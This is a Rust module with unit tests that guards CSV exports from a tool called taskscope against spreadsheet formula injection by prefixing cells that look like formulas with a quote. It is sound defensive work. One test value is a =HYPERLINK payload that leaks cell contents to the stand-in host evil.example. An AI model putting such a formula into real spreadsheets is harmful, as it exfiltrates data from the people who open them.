//! CSV that is safe to open in a spreadsheet.
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and some strip a leading tab or carriage return first. Evidence
//! is attacker-controlled, so a log line `=HYPERLINK(...)` would become a
//! live link in the reviewer's spreadsheet. As OWASP's CSV injection advice
//! says, such a cell gets a leading `'`, which spreadsheets show as text;
//! a cell that is wholly a number (`-1.5`) is left as it is, and so is a
//! lone `-` (what `tasks` prints for an unknown value), which no
//! spreadsheet reads as a formula. Every CSV taskscope writes goes through
//! [`write_csv`].

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written to CSV: with a leading `'` when it starts like a
/// formula and is neither a number nor a lone `-`.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) && cell != "-" && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// True for a plain decimal number: an optional sign, digits with at most
/// one decimal point, and an optional exponent (`-1.5`, `+3`, `2e-9`).
/// Words a float parser also accepts (`-inf`, `NaN`) are not numbers here.
fn is_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (unsigned, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |text: &str| text.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok =
        !(whole.is_empty() && fraction.is_empty()) && digits(whole) && digits(fraction);
    let exponent_ok = exponent.is_none_or(|exponent| {
        let exponent = exponent.strip_prefix(['+', '-']).unwrap_or(exponent);
        !exponent.is_empty() && digits(exponent)
    });
    mantissa_ok && exponent_ok
}

/// What a CSV cell holds for an unknown value, in every CSV: nothing (a
/// table shows `-` instead).
pub const UNKNOWN: &str = "";

/// The one header style of every CSV taskscope writes: lower-case
/// snake_case (`STOP CODE` becomes `stop_code`), as in the JSON field names.
fn header_name(column: &str) -> String {
    column.trim().to_lowercase().replace([' ', '-'], "_")
}

/// Writes a header and rows as CSV (UTF-8, no byte-order mark; docs/exports.md),
/// the header in [`header_name`]'s style and every cell neutralized.
pub fn write_csv<Cell: AsRef<str>>(
    header: impl IntoIterator<Item = impl AsRef<str>>,
    rows: impl IntoIterator<Item = impl IntoIterator<Item = Cell>>,
) -> anyhow::Result<String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let header: Vec<String> = header
        .into_iter()
        .map(|column| header_name(column.as_ref()))
        .collect();
    writer.write_record(neutralized(header))?;
    for row in rows {
        writer.write_record(neutralized(row))?;
    }
    Ok(String::from_utf8(writer.into_inner()?)?)
}

/// The cells of one CSV record, neutralized.
fn neutralized<Cell: AsRef<str>>(cells: impl IntoIterator<Item = Cell>) -> Vec<String> {
    cells
        .into_iter()
        .map(|cell| neutralize(cell.as_ref()).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_header_is_snake_case() {
        let text = write_csv(
            ["TASK", "STOP CODE", "time", "original_severity"],
            [["a", "b", "c", "d"]],
        )
        .unwrap();
        assert_eq!(text, "task,stop_code,time,original_severity\na,b,c,d\n");
    }

    #[test]
    fn formula_starts_get_a_quote_and_numbers_do_not() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd",
            "-cmd",
            "@SUM(A1)",
            "\tx",
            "\r=1",
            "--",
            "-inf",
            "+NaN",
            "-1.5.2",
            "-1e",
            "-.",
        ] {
            assert_eq!(neutralize(formula), format!("'{formula}"), "{formula:?}");
        }
        for number in ["-1.5", "+3", "-0", "-.5", "-5.", "-2e-9", "+1E+3", "42"] {
            assert_eq!(neutralize(number), number, "{number:?}");
        }
        for text in ["", "-", "a=b", "GetCallerIdentity", " =x", "'=x"] {
            assert_eq!(neutralize(text), text, "{text:?}");
        }
    }

    #[test]
    fn every_cell_of_a_written_csv_is_neutralized() {
        let text = write_csv(["=h", "n"], [["=1+1", "-1.5"], ["@x", "ok"]]).unwrap();
        assert_eq!(text, "'=h,n\n'=1+1,-1.5\n'@x,ok\n");
    }
}
